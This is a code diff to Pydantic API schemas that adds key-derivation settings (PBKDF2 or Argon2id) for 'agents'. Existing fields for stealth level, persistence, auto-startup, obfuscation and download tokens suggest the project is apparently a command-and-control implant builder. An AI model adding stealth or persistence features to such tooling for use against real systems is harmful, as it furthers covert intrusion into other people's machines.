@@ -2,8 +2,8 @@
 Agent schemas for API validation
 """
 
-from pydantic import BaseModel, Field, ConfigDict
-from typing import Optional, Dict, Any
+from pydantic import BaseModel, Field, ConfigDict, model_validator
+from typing import Optional, Dict, Any, Literal
 from datetime import datetime
 from uuid import UUID
 from app.models.agent import AgentType, AgentStatus, StartupMode, PersistenceLevel
@@ -26,6 +26,17 @@ class AgentCreate(BaseModel):
     startup_mode: StartupMode = Field(default=StartupMode.AUTO, description="Auto-startup or single run")
     persistence_level: PersistenceLevel = Field(default=PersistenceLevel.MEDIUM, description="Persistence and stealth level")
     agent_metadata: Optional[Dict[str, Any]] = Field(default_factory=dict)
+    kdf: Literal["pbkdf2-sha256", "argon2id"] = Field(default="pbkdf2-sha256", description="Master key derivation")
+    kdf_memory_kib: Optional[int] = Field(None, ge=32, le=4 * 1024 * 1024, description="Argon2id memory in KiB (default 65536)")
+    kdf_iterations: Optional[int] = Field(None, ge=1, description="PBKDF2 rounds (min 100000) or Argon2id passes (default 3)")
+
+    @model_validator(mode="after")
+    def check_kdf(self):
+        if self.kdf == "argon2id" and self.agent_type != AgentType.GO:
+            raise ValueError("argon2id is only supported by Go agents")
+        if self.kdf == "pbkdf2-sha256" and self.kdf_iterations is not None and self.kdf_iterations < 100000:
+            raise ValueError("PBKDF2 needs at least 100000 iterations")
+        return self
 
 
 class AgentUpdate(BaseModel):
@@ -51,6 +62,8 @@ class AgentResponse(BaseModel):
     auth_token: str
     encryption_key: str
     download_token: str
+    kdf_salt: Optional[str] = None
+    kdf_params: Optional[Dict[str, Any]] = None
     capabilities: Dict[str, bool]
     obfuscate: bool
     startup_mode: StartupMode